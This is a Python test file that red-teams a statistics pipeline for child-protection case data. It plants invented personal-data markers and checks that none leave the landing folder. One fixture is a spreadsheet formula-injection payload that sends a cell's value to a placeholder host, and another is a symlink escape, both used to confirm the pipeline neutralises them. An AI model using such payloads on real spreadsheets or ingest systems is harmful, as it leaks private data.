"""The red team's reproductions, through the real pipeline (`satudata run` in a subprocess,
its own Dagster storage): a small, sparse year with personal data planted in every form a
landing folder can carry it, then everything the run leaves behind is searched.

What is searched, for every marker: the warehouse (every table and column, except the file
name and path the ingest ledger keeps by design), the analytics file, the exports, the annex
(workbook XML, HTML, charts), dbt's logs and targets, the Dagster storage, and the run's
stdout and stderr. The landing folder itself is the only place a marker may be.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook

from core.config import REPO_ROOT
from ingest.privacy import key_fingerprint
from report.cases import KATEGORI as LABELS
from report.cases import kategori_header
from tests.conftest import dagster_home
from tests.disclosure import (
    BENTUK,
    KATEGORI,
    exposed,
    simfoni_landing_rows,
    simulate_cases,
    uptd_landing_rows,
)
from tests.helpers import (
    ANGGARAN_HEADER,
    anggaran_row,
    simfoni_row,
    uptd_row,
    write_csv,
    write_uptd_xlsx,
)

BIN = Path(sys.executable).parent
YEAR = 2021

# Markers, each a string no real file holds. Person-shaped names, phone and id numbers.
PII_COLUMNS = {"Nama Korban": "Yohana Lerikpenanda", "NIK Korban": "5371014409991234",
               "Alamat Korban": "Jl. Kenari Blok Penandaalamat",
               "No HP Korban": "081299001122"}
CASE_ID = "SIM-2021-PENANDAID-7"
NIP = "198103152006042001"
MISPLACED = {"Kabupaten/Kota": "Agustina Ndunpenanda", "Umur Korban": "081355667788",
             "Status Layanan": "Bernadeta Riwupenanda"}
FREE_TEXT = {"hubungan": "Ayah kandung Yohanes Tallopenanda 081244556677",
             "jabatan": "Sekretaris (Plt. Bpk Frans Manupenanda)"}
SIGNATURE = ("Drs. Kornelis Sigpenanda", "NIP. 196501011990031001")
LONG_CELL = "A" * 2_000_000 + " Longpenanda"
FILE_NAME = f"Register_UPTD_{YEAR}_Oktaviana_Bessipenanda.xlsx"
# Indicator tables named after the officer who typed them: one names its report table (the
# table is read from the name), one names none (the table is then the file's label).
INDIKATOR_FILES = (f"indikator_kinerja_{YEAR}_tabel9_Melkianus_Lauspenanda.csv",
                   f"Capaian_IKU_{YEAR}_Bu_Serafina_Seranpenanda.csv")
OUTSIDE = "Symlinkpenanda"
FORMULA = '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik Formulapenanda")'

TOKENS = {
    "pii columns": ["Lerikpenanda", "5371014409991234", "Penandaalamat", "081299001122",
                    "Pegawaipenanda"],
    "case id and NIP": ["PENANDAID", NIP],
    "misplaced values": ["Ndunpenanda", "081355667788", "Riwupenanda"],
    "free text in loaded columns": ["Tallopenanda", "081244556677", "Manupenanda"],
    "signature block": ["Sigpenanda", "196501011990031001"],
    "a 2 MB cell": ["Longpenanda"],
    "file name": ["Bessipenanda", "Lauspenanda", "Seranpenanda"],
    "symlink target": [OUTSIDE],
}


def _landing(root: Path) -> Path:
    landing = root / "landing"
    victims, cases = simulate_cases(31, year=YEAR, simfoni=40, uptd=30)
    simfoni = []
    for number, changes in enumerate(simfoni_landing_rows(victims), start=1):
        simfoni.append(simfoni_row(number, **{**PII_COLUMNS, **changes,
                                              "Hubungan Pelaku": "Orang Tua"}))
    simfoni[0] = simfoni_row(1, **{**PII_COLUMNS, **simfoni_landing_rows(victims)[0],
                                   "No. Registrasi": CASE_ID,
                                   "Hubungan Pelaku": FREE_TEXT["hubungan"]})
    extra = dict(simfoni_landing_rows(victims)[1])
    for number, (column, value) in enumerate([*MISPLACED.items(),
                                              ("Status Layanan", LONG_CELL)],
                                             start=len(simfoni) + 1):
        simfoni.append(simfoni_row(number, **{**extra, "No. Registrasi": f"SIM-X-{number}",
                                              column: value}))
    write_csv(landing / "simfoni" / f"simfoni_ppa_ntt_{YEAR}.csv", simfoni)
    uptd = [uptd_row(number, **{"Nama Korban": PII_COLUMNS["Nama Korban"],
                                "NIK Korban": PII_COLUMNS["NIK Korban"], **changes})
            for number, changes in enumerate(uptd_landing_rows(cases), start=1)]
    write_uptd_xlsx(landing / "uptd" / FILE_NAME, uptd)
    # A register outside the landing folder, reached by a link inside it.
    outside = write_uptd_xlsx(root / "elsewhere" / "register_lain.xlsx", [
        uptd_row(1, **{"No. Kasus": "UPTD/2019/001", "Kabupaten/Kota": f"Kota {OUTSIDE}",
                       "Tanggal Pengaduan": dt.datetime(2019, 5, 2)})])
    (landing / "uptd" / "register_tautan.xlsx").symlink_to(outside)
    # February below January: each month's own figure, so the file loads.
    budget = [anggaran_row(bulan, realisasi, **{"Tahun": str(YEAR), "Sub Kegiatan": FORMULA})
              for bulan, realisasi in ((1, "100.000"), (2, "40.000"))]
    write_csv(landing / "anggaran" / f"realisasi_anggaran_{YEAR}.csv", budget, encoding="cp1252",
              header=ANGGARAN_HEADER)
    roster = ["No", "Tanggal Data", "NIP", "Nama", "Jenis Kelamin", "Tanggal Lahir",
              "Pendidikan", "Golongan", "Jabatan", "Jenis Jabatan", "Unit Kerja",
              "Status Kepegawaian"]
    write_csv(landing / "asn" / f"daftar_pegawai_{YEAR}-12.csv", [
        ["1", f"31/12/{YEAR}", NIP, "Maria Pegawaipenanda", "P", "15/03/1981", "S1", "III/d",
         FREE_TEXT["jabatan"], "Struktural", "Sekretariat", "PNS"],
        ["2", f"31/12/{YEAR}", "198505122010011003", "Yakobus Pegawaipenanda", "L",
         "12/05/1985", "S1", "III/c", "Pengelola Data", "Pelaksana", "Sekretariat", "PNS"],
    ], header=roster)
    indikator = ["Tahun", "Program", "Kode Indikator", "Indikator", "Satuan", "Target",
                 "Realisasi Dilaporkan", "Pembilang", "Penyebut"]
    (landing / "indikator").mkdir(parents=True)
    for name, code, tail in ((INDIKATOR_FILES[0], "IKD-PP-02", [
            [], ["Mengetahui,"], ["Kepala Dinas"], [SIGNATURE[0]], [SIGNATURE[1]]]),
            (INDIKATOR_FILES[1], "IKD-PP-03", [])):
        lines = io.StringIO()
        writer = csv.writer(lines, delimiter=";")
        writer.writerows([indikator, [str(YEAR), "Program PPA", code,
                                      "Kasus anak yang terlayani", "%", "90", "95", "", ""],
                          *tail])
        (landing / "indikator" / name).write_text(lines.getvalue(), encoding="utf-8")
    return landing


@pytest.fixture(scope="module")
def red_team(tmp_path_factory):
    root = tmp_path_factory.mktemp("red_team")
    landing = _landing(root)
    home = dagster_home(root)
    env = {**os.environ, "DAGSTER_HOME": str(home), "SATUDATA_ALLOW_DEV_KEY": "1"}
    env.pop("SATUDATA_HMAC_KEY", None)
    run = subprocess.run(
        [str(BIN / "satudata"), "run", "--landing", str(landing), "--warehouse",
         str(root / "warehouse" / "satudata.duckdb"), "--exports", str(root / "exports")],
        env=env, capture_output=True, text=True, timeout=1200)
    return {"root": root, "landing": landing, "home": home, "run": run, "env": env}


def _tree_text(folder: Path) -> dict[str, str]:
    """Every file under `folder` as text (XLSX: the XML inside), by path."""
    out = {}
    if not folder.exists():
        return out
    for path in folder.rglob("*"):
        if not path.is_file():
            continue
        data = path.read_bytes()
        if data[:2] == b"PK":
            with zipfile.ZipFile(path) as archive:
                data = b"".join(archive.read(name) for name in archive.namelist())
        out[str(path)] = data.decode("utf-8", errors="replace")
    return out


def _database_text(path: Path, skip: set[tuple[str, str, str]] = frozenset()) -> dict[str, str]:
    """Every text cell of every table of a DuckDB file, by schema.table.column."""
    out = {}
    if not path.exists():
        return out
    con = duckdb.connect(str(path), read_only=True)
    try:
        columns = con.execute(
            "select table_schema, table_name, column_name from information_schema.columns "
            "where table_schema not in ('information_schema', 'pg_catalog')").fetchall()
        for schema, table, column in columns:
            if (schema, table, column) in skip:
                continue
            values = con.execute(f'select distinct cast("{column}" as varchar) from '
                                 f'"{schema}"."{table}" where "{column}" is not null').fetchall()
            out[f"{path.name}:{schema}.{table}.{column}"] = "\n".join(v for (v,) in values)
    finally:
        con.close()
    return out


@pytest.fixture(scope="module")
def places(red_team) -> dict[str, str]:
    """Everything the run left outside the landing folder, as text, by place."""
    root, run = red_team["root"], red_team["run"]
    found = {"stdout": run.stdout, "stderr": run.stderr}
    # The ledger keeps the officer's file name and path by design (nowhere else); dbt's
    # staging view of it is the same stored rows.
    ledger = {("raw", "ingest_ledger", column) for column in ("file_name", "file_path")}
    ledger.add(("staging", "stg_ingest__ledger", "file_name"))
    found.update(_database_text(root / "warehouse" / "satudata.duckdb", ledger))
    found.update(_database_text(root / "warehouse" / "analytics.duckdb"))
    for folder in (root / "exports", root / "reports", red_team["home"],
                   REPO_ROOT / "dbt" / "logs", REPO_ROOT / "dbt" / "target"):
        found.update(_tree_text(folder))
    return found


def _where(places: dict[str, str], form: str) -> dict[str, list[str]]:
    hits = {}
    for token in TOKENS[form]:
        pattern = re.compile(re.escape(token), re.IGNORECASE)
        where = sorted(place for place, text in places.items() if pattern.search(text))
        if where:
            hits[token] = where
    return hits


def test_the_run_completes_on_the_planted_year(red_team):
    run = red_team["run"]
    assert run.returncode in (0, 2), run.stdout[-3000:] + run.stderr[-3000:]
    con = duckdb.connect(str(red_team["root"] / "warehouse" / "satudata.duckdb"),
                         read_only=True)
    try:
        loaded = dict(con.execute("select source, sum(rows_loaded) from raw.ingest_ledger "
                                  "where status = 'loaded' group by source").fetchall())
    finally:
        con.close()
    assert loaded["uptd"] >= 30 and loaded["simfoni"] >= 39


def test_indicator_tables_are_named_by_their_files_label_like_every_source(red_team):
    """The indicator files are read (their figures are in the mart), and the mart and the
    findings name them by label; a file that names no report table has its label as table."""
    con = duckdb.connect(str(red_team["root"] / "warehouse" / "satudata.duckdb"),
                         read_only=True)
    try:
        labels = dict(con.execute("select file_name, file_label from raw.ingest_ledger "
                                  "where source = 'indikator'").fetchall())
        rows = con.execute("select kode_indikator, sumber_tabel, file_name, "
                           "realisasi_dilaporkan from marts.mart_performance_indicators "
                           "order by kode_indikator").fetchall()
        named = {name for (name,) in con.execute(
            "select distinct file_name from marts.data_quality_findings "
            "where file_name is not null").fetchall()}
    finally:
        con.close()
    tabel9, other = (labels[name] for name in INDIKATOR_FILES)
    assert rows == [("IKD-PP-02", "Tabel 9", tabel9, 95.0), ("IKD-PP-03", other, other, 95.0)]
    assert re.fullmatch(r"indikator #\d+", other)
    assert not named & set(labels), "findings name files by label"


@pytest.mark.parametrize("form", list(TOKENS))
def test_no_marker_leaves_the_landing_folder(places, form):
    """Zero markers of each form anywhere outside the landing folder."""
    assert _where(places, form) == {}


def test_a_link_out_of_the_landing_folder_is_not_followed(red_team):
    con = duckdb.connect(str(red_team["root"] / "warehouse" / "satudata.duckdb"),
                         read_only=True)
    try:
        assert con.execute("select count(*) from raw.uptd where year(tanggal_pengaduan) = "
                           "2019").fetchone()[0] == 0
        status = con.execute("select status from raw.ingest_ledger where file_name = "
                             "'register_tautan.xlsx'").fetchall()
    finally:
        con.close()
    assert status in ([], [("rejected",)])


def test_the_small_year_release_leaks_nothing_to_the_exact_attacker(red_team):
    """No withheld count is narrowed and no group proven to share a kategori or a union of
    them. The year holds a victim of unknown age (`Tidak diketahui`: a phone number in Umur
    Korban), a kategori that names no age group and no sex: August (two boys) and October
    (one boy) were reported all male while a withheld `Tidak diketahui` beside them may be
    a victim of either sex."""
    exports = red_team["root"] / "exports"
    assert not exposed(exports)
    flags = [row for name in (KATEGORI, BENTUK) for row in
             csv.DictReader(open(exports / name / f"{name}.csv", encoding="utf-8"))
             if row.get("jumlah_korban_ditahan", row.get("jumlah_kasus_ditahan")) == "true"]
    assert len(flags) > 20  # a sparse year: much is withheld, and still nothing leaks


def _release_rows(exports: Path, name: str, suffix: str = "") -> list[dict[str, str]]:
    with open(exports / name / f"{name}{suffix}.csv", encoding="utf-8") as handle:
        return [row for row in csv.DictReader(handle)
                if row["sumber"] == "uptd" and row["tahun"] == str(YEAR)]


def test_the_public_annex_prints_exactly_what_the_exports_publish(red_team):
    """Tables 13 and 14 hold the release's published values, and `x` wherever the exports
    withhold one: in the annex the pipeline wrote, and in `satudata report`'s."""
    from report.annex import build_annex

    root = red_team["root"]
    exports = root / "exports"
    con = duckdb.connect(str(root / "warehouse" / "analytics.duckdb"), read_only=True)
    try:
        annex = build_annex(con, YEAR, root / "annex-check", exports=exports)
    finally:
        con.close()
    tables = {table.number: table for table in annex.tables}
    kategori = {(row["bulan"], row["kategori_korban"]): row["jumlah_korban"] or "x"
                for row in _release_rows(exports, KATEGORI)}
    names = {kategori_header(name): name for name in LABELS}
    shown = {}
    for row in tables["13"].rows:
        for column, value in zip(tables["13"].columns[2:-1], row[2:-1], strict=True):
            shown[(str(row[0]), names.get(column.header, column.header[-1]))] = str(value)
    assert shown == kategori
    totals = {(row["tingkat"], row["bulan"]): row["jumlah_korban"] or "x"
              for row in _release_rows(exports, KATEGORI, "-jumlah")}
    assert [str(row[-1]) for row in tables["13"].rows] == \
        [totals[("per bulan", str(row[0]))] for row in tables["13"].rows]
    bentuk = {(row["bulan"], row["jenis_kekerasan"], row["bentuk_kekerasan"]):
              row["jumlah_kasus"] or "x" for row in _release_rows(exports, BENTUK)}
    assert {(str(r[0]), r[2], r[3]): str(r[4]) for r in tables["14"].rows} == bentuk
    withheld = sum(value == "x" for value in [*kategori.values(), *bentuk.values()])
    assert withheld > 10
    # The workbook the pipeline published carries the same `x`s, and no withheld figure.
    book = load_workbook(root / "reports" / str(YEAR) / f"lampiran_statistik_{YEAR}.xlsx")
    marks = sum(cell.value == "x" for number in ("13", "14")
                for row in book[f"Tabel {number}"].iter_rows() for cell in row)
    expected = withheld + sum(row["jumlah_korban"] == "" for row in
                              _release_rows(exports, KATEGORI, "-jumlah"))
    expected += sum(row["jumlah_kasus"] == "" and row["tingkat"] == "total"
                    for row in _release_rows(exports, BENTUK, "-jumlah"))
    assert marks == expected


def test_public_findings_print_no_count_by_district_and_month(red_team):
    annex = _tree_text(red_team["root"] / "reports" / str(YEAR))
    text = "\n".join(annex.values())
    assert "uptd_vs_simfoni_monthly" in text  # the check is named, with a count
    assert not re.search(r"holds \d+ case|(memuat|mencatat) \d+ kasus|\b\d+ case\(s\) of", text)


def test_the_internal_annex_is_exact_and_marked_rahasia(red_team):
    root = red_team["root"]
    folder = root / "internal"  # outside the folders the marker search reads
    run = subprocess.run(
        [str(BIN / "satudata"), "report", "--year", str(YEAR), "--internal", "--out",
         str(folder), "--warehouse", str(root / "warehouse" / "satudata.duckdb"),
         "--exports", str(root / "exports")],
        env=red_team["env"], capture_output=True, text=True, timeout=600)
    assert run.returncode == 0, run.stdout + run.stderr
    book = load_workbook(folder / f"lampiran_statistik_{YEAR}.xlsx")
    for sheet in book.worksheets:
        assert str(sheet["A1"].value).startswith("RAHASIA — internal"), sheet.title
        assert sheet.oddHeader.center.text == "RAHASIA — internal"
        assert sheet.oddFooter.center.text == "RAHASIA — internal"
    assert not any(cell.value == "x" for row in book["Tabel 13"].iter_rows() for cell in row)
    html = (folder / f"lampiran_statistik_{YEAR}.html").read_text(encoding="utf-8")
    assert html.count("RAHASIA — internal") >= 2 and "position: fixed" in html
    # The exact findings are here, and only here.
    assert re.search(r"mencatat \d+ kasus .* tetapi SIMFONI-PPA hanya", html)


def test_a_budget_name_typed_as_a_formula_stays_text(red_team):
    path = red_team["root"] / "reports" / str(YEAR) / f"lampiran_statistik_{YEAR}.xlsx"
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist()
                  if n.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet for sheet in sheets)
    book = load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and "Formulapenanda" in cell.value]
    assert cells and all(c.data_type == "s" and c.value.startswith("=") for c in cells)
    html = (path.with_suffix(".html")).read_text(encoding="utf-8")
    assert "=HYPERLINK(&quot;http" in html  # escaped, never markup


def test_the_development_key_publishes_nothing_without_permission(red_team, tmp_path):
    env = {k: v for k, v in red_team["env"].items()
           if k not in ("SATUDATA_ALLOW_DEV_KEY", "SATUDATA_HMAC_KEY")}
    run = subprocess.run(
        [str(BIN / "satudata"), "run", "--landing", str(red_team["landing"]), "--warehouse",
         str(tmp_path / "w.duckdb"), "--exports", str(tmp_path / "exports")],
        env=env, capture_output=True, text=True, timeout=600)
    assert run.returncode == 1
    assert "--allow-dev-key" in run.stdout
    assert not (tmp_path / "exports").exists() and not (tmp_path / "w.duckdb").exists()
    summary = red_team["run"].stdout  # the sample-style run says which key it used
    assert "pengembangan" in summary or "development" in summary


def test_a_second_key_is_refused_and_rotation_re_pseudonymises(red_team):
    root = red_team["root"]
    warehouse = root / "warehouse" / "satudata.duckdb"
    paths = ["--warehouse", str(warehouse), "--exports", str(root / "exports")]
    env = {**red_team["env"], "SATUDATA_HMAC_KEY": "kunci-rahasia-baru"}
    refused = subprocess.run([str(BIN / "satudata"), "run", "--landing",
                              str(red_team["landing"]), *paths],
                             env=env, capture_output=True, text=True, timeout=600)
    assert refused.returncode == 1 and "satudata rotate-key" in refused.stdout
    con = duckdb.connect(str(warehouse), read_only=True)
    before = con.execute("select no_kasus_hmac from raw.uptd order by 1").fetchall()
    con.close()
    rotated = subprocess.run([str(BIN / "satudata"), "rotate-key", "--landing",
                              str(red_team["landing"]), *paths],
                             env=env, capture_output=True, text=True, timeout=600)
    assert rotated.returncode == 0, rotated.stdout + rotated.stderr
    con = duckdb.connect(str(warehouse), read_only=True)
    try:
        after = con.execute("select no_kasus_hmac from raw.uptd order by 1").fetchall()
        keys = con.execute("select distinct key_fingerprint from raw.ingest_ledger where "
                           "status = 'loaded' and superseded_by is null and source in "
                           "('uptd', 'simfoni', 'asn')").fetchall()
    finally:
        con.close()
    assert len(after) == len(before) and not set(after) & set(before)
    assert keys == [(key_fingerprint(b"kunci-rahasia-baru"),)]
